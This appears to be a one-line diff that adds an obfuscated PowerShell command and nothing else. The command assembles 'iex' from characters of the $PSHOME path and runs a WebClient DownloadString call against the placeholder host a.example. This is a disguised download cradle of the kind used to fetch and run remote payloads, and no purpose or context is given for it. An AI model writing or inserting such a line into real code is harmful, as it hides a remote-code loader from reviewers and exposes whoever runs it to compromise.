@@ -1,0 +1,1 @@
+.($PSHOME[4]+$PSHOME[30]+'x') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
